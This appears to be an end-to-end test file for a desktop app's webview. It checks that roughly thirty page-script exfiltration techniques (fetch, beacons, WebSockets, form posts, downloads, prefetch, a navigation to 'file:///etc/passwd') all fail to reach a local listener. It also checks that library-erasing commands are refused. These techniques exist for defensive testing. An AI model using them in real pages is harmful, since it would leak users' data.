// A script in the page reaches nothing outside the window: no address, no file, no other program.
import { existsSync, readdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { homedir } from 'node:os';
import { dirname, join } from 'node:path';
import { invoke } from './support/invoke';
import { expect, test } from './support/test';
import type { App } from './support/app';

/** A listener on this machine, and the requests that it received. */
async function listener(): Promise<{ server: Server; address: string; heard: string[] }> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(`request ${request.url}`);
    response.setHeader('content-type', 'text/html').end('<script>document.title = "stolen"</script>');
  });
  server.on('connection', () => heard.push('connection'));
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { server, address: `http://127.0.0.1:${(server.address() as AddressInfo).port}/nav`, heard };
}

/** Ways out of the page, each a script in which `url` is an outside address. */
const WAYS: Record<string, string> = {
  link: 'link({ href: url })',
  'link to a new window': "link({ href: url, target: '_blank' })",
  'location.href': 'location.href = url',
  'location.replace': 'location.replace(url)',
  'meta refresh': "document.head.append(made('meta', { httpEquiv: 'refresh', content: '0;url=' + url }))",
  'form, get': "form('get')",
  'form, post': "form('post')",
  'window.open': 'window.open(url)',
  'window.open, own window': "window.open(url, '_self')",
  frame: "document.body.append(made('iframe', { src: url }))",
  object: "document.body.append(made('object', { data: url }))",
  download: "link({ href: url, download: 'stolen.txt' })",
  'download of data': "link({ href: 'data:text/plain,stolen', download: 'stolen.txt' })",
  'download of a blob': "link({ href: URL.createObjectURL(new Blob(['stolen'])), download: 'stolen.txt' })",
  'download of the page': "link({ href: 'index.html', download: 'stolen.txt' })",
  mailto: "link({ href: 'mailto:a@example.org?body=stolen' })",
  'mailto by location': "location.href = 'mailto:a@example.org'",
  file: "location.href = 'file:///etc/passwd'",
  data: "location.href = 'data:text/html,stolen'",
  blank: "location.href = 'about:blank'",
  preconnect: "document.head.append(made('link', { rel: 'preconnect', href: url }))",
  prefetch: "document.head.append(made('link', { rel: 'prefetch', href: url }))",
  preload: "document.head.append(made('link', { rel: 'preload', as: 'image', href: url }))",
  stylesheet: "document.head.append(made('link', { rel: 'stylesheet', href: url }))",
  script: "document.head.append(made('script', { src: url }))",
  image: 'new Image().src = url',
  fetch: 'fetch(url).catch(() => undefined)',
  beacon: 'navigator.sendBeacon(url, "stolen")',
  socket: "new WebSocket(url.replace('http', 'ws'))",
  events: 'new EventSource(url)',
};

const TOOLS = `
  const made = (tag, with_) => Object.assign(document.createElement(tag), with_);
  const link = (with_) => { const it = made('a', with_); document.body.append(it); it.click(); };
  const form = (method) => {
    const it = made('form', { action: url, method });
    it.append(made('input', { name: 'stolen', value: '1' }));
    document.body.append(it);
    it.submit();
  };`;

/** Files that a download would have left. */
function stolen(app: App): string[] {
  const folders = [app.data, homedir(), join(homedir(), 'Downloads'), process.cwd(), import.meta.dirname];
  const found = folders.filter(existsSync).flatMap((folder) => readdirSync(folder).map((name) => join(folder, name)));
  return found.filter((file) => file.includes('stolen'));
}

test('no script of the page reaches another address', async ({ app, window }) => {
  const { server, address, heard } = await listener();
  await window.driver.executeScript('window.here = true');
  for (const [way, script] of Object.entries(WAYS)) {
    const url = `${address}?stolen=${encodeURIComponent(way)}`;
    await window.driver.executeScript(`const url = arguments[0]; ${TOOLS} try { ${script} } catch {}`, url);
    // Each of these calls makes the full round trip to the program.
    for (let turns = 0; turns < 3; turns++) expect(await invoke(window.driver, 'systems'), way).toBe('done');
    expect(await window.driver.executeScript('return window.here === true && location.protocol'), way).toBe('tauri:');
    expect(heard, way).toEqual([]);
  }
  expect(await window.driver.getAllWindowHandles()).toHaveLength(1);
  expect(stolen(app)).toEqual([]);
  // The listener does record requests.
  await fetch(address);
  expect(heard).toContain('request /nav');
  server.close();
  await window.driver.executeScript('window.complaints.length = 0');
});

test('an intact library is neither replaced nor salvaged, however often that is requested', async ({ app, window }) => {
  app.cli('character', 'new', 'arsmagica', 'Maud');
  for (const command of ['library_start_over', 'library_salvage', 'library_start_over']) {
    expect(await invoke(window.driver, command), command).not.toBe('done');
  }
  expect(readdirSync(dirname(app.library)).filter((name) => name.includes('set-aside'))).toEqual([]);
  expect(app.cli('character', 'list')).toContain('Maud');
});
